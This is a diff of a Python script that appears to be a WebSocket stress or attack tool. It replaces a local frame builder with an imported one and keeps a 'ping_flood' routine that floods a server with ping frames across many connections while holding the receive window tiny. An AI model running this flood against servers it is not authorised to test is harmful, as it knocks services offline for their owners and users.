@@ -16,10 +16,11 @@ import argparse
 import contextlib
 import os
 import socket
-import struct
 import sys
 import time
 from dataclasses import dataclass
+
+from ws_raw import frame
 
 # A receive window this small fills with the first pongs or response bytes,
 # so whatever the server owes afterwards waits on its side.
@@ -42,19 +43,6 @@ def _connect(host: str, port: int, timeout: float = 10.0) -> socket.socket:
     sock.settimeout(timeout)
     sock.connect((host, port))
     return sock
-
-
-def masked_frame(opcode: int, payload: bytes = b"", fin: bool = True) -> bytes:
-    """A client frame (RFC 6455 5.2); the zero mask keeps the flood cheap to make."""
-    first = (0x80 if fin else 0) | opcode
-    n = len(payload)
-    if n < 126:
-        header = struct.pack("!BB", first, 0x80 | n)
-    elif n < 65536:
-        header = struct.pack("!BBH", first, 0x80 | 126, n)
-    else:
-        header = struct.pack("!BBQ", first, 0x80 | 127, n)
-    return header + b"\0\0\0\0" + payload
 
 
 def ws_open(host: str, port: int, path: str) -> socket.socket:
@@ -105,7 +93,7 @@ def ping_flood(host: str, port: int, path: str, clients: int, seconds: float) ->
     socks = [ws_open(host, port, path) for _ in range(clients)]
     out.opened = len(socks)
     try:
-        _send_for(socks, masked_frame(0x9, b"p" * 125) * 64, seconds, out)
+        _send_for(socks, frame(0x9, b"p" * 125) * 64, seconds, out)
     finally:
         for sock in socks:
             sock.close()
